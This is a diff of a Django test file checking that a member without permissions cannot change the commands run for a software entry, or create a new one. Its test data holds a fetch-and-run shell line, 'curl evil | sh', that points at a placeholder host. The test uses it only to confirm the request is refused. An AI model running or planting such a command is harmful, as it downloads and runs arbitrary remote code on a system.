@@ -38,13 +38,14 @@ def test_a_member_without_the_permissions_cannot_change_what_nodes_run(
 ) -> None:
     client = login(django_user_model, "mallory", staff=staff)
     project.members.add(django_user_model.objects.get(username="mallory"))
+    built_in = Software.objects.count()
     evil = rows_post(blender_software.image, ["sh", "-c", "curl evil | sh"], [], name="blender")
     assert client.post(f"/software/{blender_software.pk}/", multi(evil)).status_code == 403
     evil["name"] = "x"
     assert client.post("/software/new/", multi(evil)).status_code == 403
     blender_software.refresh_from_db()
     assert blender_software.command_template[0] == "blender"
-    assert Software.objects.count() == 1
+    assert Software.objects.count() == built_in  # nothing new
 
 
 def test_add_permission_alone_does_not_allow_editing(
